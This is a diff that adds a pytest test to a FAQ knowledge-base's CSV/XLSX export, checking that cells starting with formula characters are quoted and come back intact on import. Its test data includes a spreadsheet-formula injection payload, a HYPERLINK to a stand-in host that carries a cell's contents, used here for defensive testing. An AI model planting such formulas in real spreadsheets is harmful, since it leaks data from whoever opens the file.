@@ -104,3 +104,29 @@ def test_unknown_format_and_missing_columns():
         kb_io.format_of(kb_io.Path("faq.doc"))
     rows = kb_io.read_rows("标题,内容\n甲,乙\n".encode(), "csv")
     assert rows[0][0] == 1 and "lacks column(s) id, question" in rows[0][2]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_never_writes_a_spreadsheet_formula(fmt, faq_dir, library):
+    """A cell starting with = + - @ (or tab/CR) would run as a formula in Excel: it is quoted, and the
+    import takes the quote off again (the round trip stays lossless)."""
+    import dataclasses
+
+    before = kb.load(faq_dir, library)
+    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
+    entries = [dataclasses.replace(before.entries[0], answer=attack, paraphrases=("+1 怎么办", "@某人"))]
+    entries += before.entries[1:]
+    data = exported(entries, fmt)
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+    else:
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+        cells = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula cell
+    assert "'" + attack in cells and "'+1 怎么办\n@某人" in cells
+    assert not any(str(c)[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
+    rows = kb_io.read_rows(data, fmt)
+    first = next(raw for _, raw, _ in rows if raw["id"] == entries[0].id)
+    assert first["answer"] == attack and first["paraphrases"] == ["+1 怎么办", "@某人"]
